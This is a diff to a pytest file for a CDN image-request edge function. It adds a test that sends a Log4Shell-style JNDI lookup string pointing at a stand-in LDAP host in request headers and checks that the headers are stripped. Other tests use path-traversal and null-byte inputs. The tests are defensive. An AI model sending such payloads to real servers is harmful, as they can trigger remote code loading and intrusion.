@@ -304,6 +304,24 @@ def test_an_image_request_becomes_canonical_and_carries_the_address():
     assert rewritten["headers"]["x-viewer-address"] == {"value": "192.0.2.7"}
 
 
+@pytest.mark.parametrize("path", ["", "/fit=cover,format=webp,position=center,quality=auto"])
+def test_nothing_that_a_viewer_writes_reaches_the_firewall_beside_the_shared_path(path):
+    written = {"accept": "${jndi:ldap://x/a}", "x-forwarded-for": "${jndi:ldap://x/a}"}
+    request = event(f"/images/01ARZ3NDEKTSV4RRFFQ69G5FAV{path}", **written)
+
+    rewritten = run(image_request_code(Sizes.LADDER), request)
+
+    assert rewritten["headers"] == {"accept": {"value": "*/*"}, "x-viewer-address": {"value": "192.0.2.7"}}
+
+
+@ALL_STAGES
+def test_a_refusal_by_the_firewall_is_kept_for_nobody_else(edge, name):
+    kept = {each["ErrorCode"]: each["ErrorCachingMinTTL"] for each in edge(name).config["CustomErrorResponses"]}
+
+    assert kept[403] == 0
+    assert set(kept) == {403, 404, 500, 502, 503, 504}
+
+
 @pytest.mark.parametrize("uri", ["/v1/", "/v1/a%2fb", "/v1/../x", "/v1/a/%00", "/v1//a", "/v1/" + "a" * 129])
 def test_odd_paths_of_the_api_are_answered_by_the_edge(uri):
     assert run(control_request_code(), event(uri))["statusCode"] == 404
